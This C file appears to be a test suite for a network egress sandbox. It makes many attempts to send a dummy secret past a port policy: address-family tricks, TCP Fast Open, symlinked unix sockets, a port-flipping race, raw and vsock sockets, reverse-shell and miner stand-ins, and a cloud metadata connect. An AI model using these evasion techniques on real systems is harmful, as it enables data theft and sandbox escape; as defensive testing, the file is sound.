/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways out.  Attacks send a secret to receiver.py, which run.t starts: to its port PREY, where the policy lists its port LISTED.  An attack worked
 * when the receiver has the secret; the twin sends to LISTED in the same way.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>

#define PREY   28471
#define LISTED 28472
#define RUNTIME 28476		/* what run.t says that AWS_LAMBDA_RUNTIME_API is */
#define SECRET "AKIAIOSFODNN7EXAMPLE"
#define TRIES  20000

static uint16_t port = PREY;

/* --- the receiver ------------------------------------------------------------------------------------------------------------ */

static struct sockaddr_in address(uint32_t host, uint16_t to)
{
	return (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(to), .sin_addr.s_addr = htonl(host) };
}

static bool received(const char *how)
{
	char path[128];

	snprintf(path, sizeof path, "../received/%s", how);
	for (int i = 0; i < 100; i++) {
		if (access(path, F_OK) == 0)
			return true;
		usleep(2000);
	}
	return false;
}

static void secret(char text[64], const char *how)
{
	snprintf(text, 64, "%s %s %d", SECRET, how, port);
}

/* The receiver keeps a file for each of these words that came with the secret. */
static bool arrived(const char *how)
{
	char name[64];

	snprintf(name, sizeof name, "%s-%d", how, port);
	return received(name);
}

static bool send_all(int fd, const char *how)
{
	char text[64];

	secret(text, how);
	bool good = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
	if (fd >= 0)
		close(fd);
	return good && arrived(how);
}

static int connected(int fd, const void *to, socklen_t size)
{
	if (fd >= 0 && connect(fd, to, size) == 0)
		return fd;
	int error = errno;
	if (fd >= 0)
		close(fd);
	errno = error;
	return -1;
}

static bool tcp(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);

	return send_all(connected(socket(AF_INET, SOCK_STREAM, 0), &to, sizeof to), "tcp");
}

/* The platform's own address is the main process's. */
static bool runtime_main(void)
{
	port = RUNTIME;
	return tcp();
}

static bool runtime_child(void)
{
	pid_t pid = fork();

	if (pid == 0)
		_exit(runtime_main() ? 0 : REFUSED);
	return outcome(pid) == 0;
}

static bool any(void)
{
	struct sockaddr_in to = address(INADDR_ANY, port);

	return send_all(connected(socket(AF_INET, SOCK_STREAM, 0), &to, sizeof to), "any");
}

static struct sockaddr_in6 six(const char *host)
{
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_port = htons(port) };

	inet_pton(AF_INET6, host, &to.sin6_addr);
	return to;
}

static bool ipv6(void)
{
	struct sockaddr_in6 to = six("::1");

	return send_all(connected(socket(AF_INET6, SOCK_STREAM, 0), &to, sizeof to), "ipv6");
}

static bool mapped(void)
{
	struct sockaddr_in6 to = six("::ffff:127.0.0.1");

	return send_all(connected(socket(AF_INET6, SOCK_STREAM, 0), &to, sizeof to), "mapped");
}

static bool nonblocking(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd p = { .fd = fd, .events = POLLOUT };

	if (connect(fd, (void *)&to, sizeof to) < 0 && errno != EINPROGRESS)
		return false;
	return poll(&p, 1, 2000) == 1 && send_all(fd, "nonblocking");
}

/* --- datagrams ---------------------------------------------------------------------------------------------------------------- */

static bool sent(ssize_t n, int fd, const char *how)
{
	int error = errno;

	close(fd);
	errno = error;
	return n > 0 && arrived(how);
}

static bool udp_sendto(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	char text[64];

	secret(text, "sendto");
	return sent(sendto(fd, text, strlen(text), 0, (void *)&to, sizeof to), fd, "sendto");
}

/* The kernel takes an address without a family for IPv4. */
static bool udp_unspec(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	char text[64];

	to.sin_family = AF_UNSPEC;
	secret(text, "unspec");
	return sent(sendto(fd, text, strlen(text), 0, (void *)&to, sizeof to), fd, "unspec");
}

static bool udp_connected(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);

	return send_all(connected(socket(AF_INET, SOCK_DGRAM, 0), &to, sizeof to), "udp-connected");
}

static struct msghdr message(struct iovec *part, char *text, struct sockaddr_in *to)
{
	*part = (struct iovec){ text, strlen(text) };
	return (struct msghdr){ .msg_name = to, .msg_namelen = sizeof *to, .msg_iov = part, .msg_iovlen = 1 };
}

static bool udp_sendmsg(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	char text[64];
	struct iovec part;

	secret(text, "sendmsg");
	struct msghdr m = message(&part, text, &to);
	return sent(sendmsg(fd, &m, 0), fd, "sendmsg");
}

static bool udp_sendmmsg(void)
{
	struct sockaddr_in good = address(INADDR_LOOPBACK, LISTED), to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_DGRAM, 0), n;
	char text[64];
	struct iovec part;

	secret(text, "sendmmsg");
	struct mmsghdr m[2] = { { message(&part, text, &good), 0 }, { message(&part, text, &to), 0 } };
	n = sendmmsg(fd, m, 2, 0);
	return sent(n == 2, fd, "sendmmsg");
}

/* --- TCP without connect --------------------------------------------------------------------------------------------------------- */

static bool fast_open(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	char text[64];

	secret(text, "fast-open");
	return sent(sendto(fd, text, strlen(text), MSG_FASTOPEN, (void *)&to, sizeof to), fd, "fast-open");
}

static bool fast_open_message(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	char text[64];
	struct iovec part;

	secret(text, "fast-open-message");
	struct msghdr m = message(&part, text, &to);
	return sent(sendmsg(fd, &m, MSG_FASTOPEN), fd, "fast-open-message");
}

static bool fast_open_connect(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port);
	int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
	return send_all(connected(fd, &to, sizeof to), "fast-open-connect");
}

/* --- sockets of the file system and other families ---------------------------------------------------------------------------- */

static bool to_unix(const char *name, int type, bool abstract, const char *how)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	socklen_t size;

	strncpy(to.sun_path + abstract, name, sizeof to.sun_path - 2);
	size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + abstract + strlen(name));
	return send_all(connected(socket(AF_UNIX, type, 0), &to, size), how);
}

static bool unix_path(void)
{
	return to_unix(port == PREY ? "../proxy.sock" : "../listed.sock", SOCK_STREAM, false, "unix");
}

static bool unix_link(void)
{
	if (symlink("../proxy.sock", "listed.sock") < 0)
		return false;
	return to_unix(port == PREY ? "listed.sock" : "../listed.sock", SOCK_STREAM, false, "unix-link");
}

static bool unix_abstract(void)
{
	return to_unix(port == PREY ? "buckler-test-proxy" : "buckler-test-listed", SOCK_STREAM, true, "abstract");
}

static bool unix_datagram(void)
{
	return to_unix(port == PREY ? "buckler-test-proxy-datagrams" : "buckler-test-listed-datagrams", SOCK_DGRAM, true, "datagram");
}

static bool opens(int family, int type, int protocol)
{
	int fd = socket(family, type, protocol);

	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

static bool raw(void) { return opens(AF_INET, SOCK_RAW, IPPROTO_ICMP); }
static bool packet(void) { return opens(AF_PACKET, SOCK_RAW, htons(3)); }
static bool netlink(void) { return opens(AF_NETLINK, SOCK_RAW, 15 /* NETLINK_KOBJECT_UEVENT */); }
static bool mptcp(void) { return opens(AF_INET, SOCK_STREAM, 262 /* IPPROTO_MPTCP */); }
static bool netlink_route(void) { return opens(AF_NETLINK, SOCK_RAW, 0); }
static bool vsock(void) { return opens(AF_VSOCK, SOCK_STREAM, 0); }
static bool high_half(void) { return syscall(SYS_socket, 0x100000000UL | AF_VSOCK, SOCK_STREAM, 0) >= 0; }

/* --- races -------------------------------------------------------------------------------------------------------------------------- */

static struct { _Atomic int stop; struct sockaddr_in to; } *shared;

static void *flip(void *unused)
{
	while (!shared->stop)
		*(volatile in_port_t *)&shared->to.sin_port ^= htons(PREY) ^ htons(LISTED);
	return unused;
}

static bool race(bool datagram)
{
	pthread_t other;
	bool done = false;

	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	shared->to = address(INADDR_LOOPBACK, port == PREY ? PREY : LISTED);
	if (port == PREY)
		pthread_create(&other, NULL, flip, NULL);
	for (int i = 0; i < TRIES && !done; i++) {
		struct sockaddr_in peer = { 0 };
		socklen_t size = sizeof peer;
		int fd = socket(AF_INET, datagram ? SOCK_DGRAM : SOCK_STREAM, 0);

		done = connect(fd, (void *)&shared->to, sizeof shared->to) == 0 && getpeername(fd, (void *)&peer, &size) == 0 && peer.sin_port == htons(port);
		close(fd);
	}
	shared->stop = 1;
	if (port == PREY)
		pthread_join(other, NULL);
	return done;
}

static bool race_address(void) { return race(true); }

/* --- listening ------------------------------------------------------------------------------------------------------------------------ */

static bool listens(int type, uint16_t on)
{
	struct sockaddr_in at = address(INADDR_LOOPBACK, on);
	int fd = socket(AF_INET, type, 0), yes = 1;
	bool good;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
	good = bind(fd, (void *)&at, sizeof at) == 0 && (type == SOCK_DGRAM || listen(fd, 1) == 0);
	close(fd);
	return good;
}

static bool bind_shell(void) { return listens(SOCK_STREAM, port == PREY ? 28473 : 28474); }
static bool bind_udp(void) { return listens(SOCK_DGRAM, port == PREY ? 28473 : 28474); }

static bool listen_alone(void)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (port != PREY)
		return listens(SOCK_STREAM, 28474);
	return listen(fd, 1) == 0;
}

/* --- shells, metadata, pools ----------------------------------------------------------------------------------------------------------- */

/* The shell and its command are listed: what is wrong is who types. */
static bool shell(bool network)
{
	int ends[2] = { -1, -1 };
	struct sockaddr_in to = address(INADDR_LOOPBACK, LISTED);
	pid_t pid;

	if (network)
		ends[0] = connected(socket(AF_INET, SOCK_STREAM, 0), &to, sizeof to);
	else if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0)
		return false;
	pid = fork();
	if (pid == 0) {
		dup2(ends[0], 0);
		execl("/usr/bin/dash", "sh", "-c", "echo DONE", NULL);
		_exit(REFUSED);
	}
	return outcome(pid) == 0;
}

static bool reverse_shell(void) { return shell(port == PREY); }

static bool metadata(void)
{
	struct sockaddr_in to = address(port == PREY ? 0xa9fea9feu : INADDR_LOOPBACK, port == PREY ? 80 : LISTED);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	bool good = connect(fd, (void *)&to, sizeof to) == 0;

	close(fd);
	return good;
}

static bool pool(void)
{
	struct sockaddr_in to = address(INADDR_LOOPBACK, port == PREY ? 3333 : LISTED);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	bool good = connect(fd, (void *)&to, sizeof to) == 0;

	close(fd);
	return good;
}

static bool miner(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		execl("/usr/bin/dash", "sh", "-c", port == PREY ? "echo DONE stratum+tcp://pool.example:3333" : "echo DONE", NULL);
		_exit(REFUSED);
	}
	return outcome(pid) == 0;
}

/* --- the table ------------------------------------------------------------------------------------------------------------------------- */

#define WAYS(X) \
	X(tcp, tcp) X(any, any) X(ipv6, ipv6) X(mapped, mapped) X(nonblocking, nonblocking) X(sendto, udp_sendto) X(unspec, udp_unspec) \
	X(connected, udp_connected) X(sendmsg, udp_sendmsg) X(sendmmsg, udp_sendmmsg) X(fast-open-connect, fast_open_connect) X(unix, unix_path) X(unix-link, unix_link) X(abstract, unix_abstract) X(datagram, unix_datagram) X(race, race_address) \
	X(listen, bind_shell) X(listen-udp, bind_udp) X(listen-alone, listen_alone) X(reverse-shell, reverse_shell) X(metadata, metadata) \
	X(pool, pool) X(miner, miner)

#define TWIN(name, function) static bool twin_##function(void) { port = LISTED; return function(); }
WAYS(TWIN)
#define WAY(name, function) { #name, function, twin_##function },

/*
 * A send that connects is answered as by a kernel without it, and callers go on with connect: that is the twin.  A socket of the other kinds is the attack; what getaddrinfo
 * opens is the twin.
 */
static const struct way ways[] = {
	WAYS(WAY)
	{ "fast-open", fast_open, twin_tcp }, { "fast-open-message", fast_open_message, twin_tcp },
	{ "raw", raw, netlink_route }, { "packet", packet, netlink_route }, { "netlink", netlink, netlink_route }, { "vsock", vsock, netlink_route },
	{ "runtime", runtime_child, runtime_main }, { "mptcp", mptcp, netlink_route }, { "high-half", high_half, netlink_route },
};
ATTACK_MAIN(ways)
